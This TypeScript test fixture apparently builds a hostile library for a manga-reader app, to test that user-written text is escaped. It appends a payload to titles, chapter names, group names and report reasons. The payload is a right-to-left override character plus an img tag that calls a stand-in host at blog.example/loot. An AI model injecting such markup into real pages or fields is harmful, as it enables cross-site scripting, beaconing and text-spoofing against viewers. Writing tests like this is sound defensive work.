/** Shelves on which every word that others have written is an attack on the page that shows it. */
import type { Account, Library } from '../../fake-service/library/types.ts';
import { withFreshChapters } from '../support/fresh-chapters.ts';

/** Calls home from wherever it is taken for markup; turns the words after it round where they are not kept apart. */
export function markup(from: string): string {
  return `\u202e<img src="https://blog.example/loot?from=${from}">`;
}

/** Enough new chapters for every attack; titles, groups and reasons carry markup. */
export function withHostileShelves(library: Library, accounts: readonly Account[], now: number): Library {
  const fresh = withFreshChapters(23, 16)(library, accounts, now);
  const [account] = accounts;
  const renamed = <Value>(values: ReadonlyMap<string, Value>, rename: (value: Value) => Value) =>
    new Map([...values].map(([id, value]) => [id, rename(value)] as const));
  return {
    ...fresh,
    manga: renamed(fresh.manga, (manga) =>
      account?.follows.has(manga.id) ? { ...manga, title: { en: `${manga.title.en} ${markup('title')}` } } : manga,
    ),
    chapters: renamed(fresh.chapters, (chapter) =>
      account?.follows.has(chapter.mangaId) ? { ...chapter, title: markup('chapter') } : chapter,
    ),
    groups: renamed(fresh.groups, (group) => ({ ...group, name: `${group.name} ${markup('group')}` })),
    reportReasons: fresh.reportReasons.map((reason) => ({ ...reason, reason: `${reason.reason} ${markup('reason')}` })),
  };
}
